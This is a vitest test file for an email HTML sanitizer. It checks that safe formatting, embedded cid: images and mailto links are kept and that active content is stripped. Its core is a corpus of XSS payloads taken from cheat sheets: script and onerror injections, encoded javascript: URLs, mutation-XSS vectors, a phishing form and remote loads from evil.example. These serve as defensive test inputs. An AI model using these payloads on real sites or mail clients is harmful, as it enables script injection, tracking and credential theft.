import { describe, expect, it } from "vitest";
import { sanitizeEmailHtml } from "./sanitize.js";

/** What must never survive: script, handlers, script URLs, remote fetches. */
function expectInert(html: string): void {
  const lower = html.toLowerCase();
  expect(lower).not.toMatch(/<script|<iframe|<object|<embed|<form|<style|<link|<meta|<svg|<math|<base/u);
  expect(lower).not.toMatch(/\son[a-z]+\s*=/u);
  expect(lower).not.toMatch(/javascript:|vbscript:|data:/u);
  expect(lower).not.toMatch(/<img[^>]*src="(?!cid:)/u);
  expect(lower).not.toMatch(/url\(|expression\(|srcset|background=/u);
}

describe("sanitizeEmailHtml", () => {
  it("keeps ordinary formatting, tables and web links", () => {
    const html =
      '<p>Hi <b>Alice</b>, see <a href="https://example.com/report">the report</a>.</p><table><tr><td colspan="2">Q3</td></tr></table>';
    expect(sanitizeEmailHtml(html)).toBe(
      '<p>Hi <b>Alice</b>, see <a href="https://example.com/report">the report</a>.</p><table><tr><td colspan="2">Q3</td></tr></table>',
    );
  });

  it("keeps images embedded in the message (cid:) and drops remote ones, tracking pixels included", () => {
    const html =
      '<img src="cid:logo@example.com" alt="Logo"><img src="https://track.example.net/open.gif?u=42" width="1" height="1"><img src="//track.example.net/p.gif"><img src="pixel.gif"><img>';
    expect(sanitizeEmailHtml(html)).toBe('<img src="cid:logo@example.com" alt="Logo" />');
  });

  it("keeps mailto and tel links, drops the href of anything else", () => {
    expect(sanitizeEmailHtml('<a href="mailto:alice@example.com">mail</a> <a href="tel:+331234">call</a>')).toContain(
      'href="mailto:alice@example.com"',
    );
    expect(sanitizeEmailHtml('<a href="ftp://example.com/x">ftp</a>')).toBe("<a>ftp</a>");
  });

  // A small corpus from the usual XSS cheat sheets, in the shapes mail clients meet.
  const corpus = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    '<img src="cid:ok" onerror="alert(1)" onload=alert(2)>',
    '<body onload="alert(1)">text</body>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    '<a href="  javascript:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/phish"><input name="password"><button>Log in</button></form>',
    "<style>body{background:url(https://track.example.net/bg.gif)}</style>",
    '<div style="background-image:url(https://track.example.net/bg.gif)">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<table background="https://track.example.net/bg.gif"><tr><td>x</td></tr></table>',
    '<img srcset="https://track.example.net/1x.gif 1x" src="cid:ok">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<div onclick="alert(1)" onmouseover=alert(2)>hover</div>',
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="https://ok.example" onclick="steal()">ok</a>',
  ];

  it.each(corpus)("neutralizes %s", (html) => {
    expectInert(sanitizeEmailHtml(html));
  });

  it("keeps the text of removed elements readable where it is content", () => {
    expect(sanitizeEmailHtml('<div onclick="alert(1)">hover</div>')).toBe("<div>hover</div>");
    expect(sanitizeEmailHtml('<a href="javascript:alert(1)">click</a>')).toBe("<a>click</a>");
    expect(sanitizeEmailHtml("<script>alert(1)</script>after")).toBe("after");
  });
});
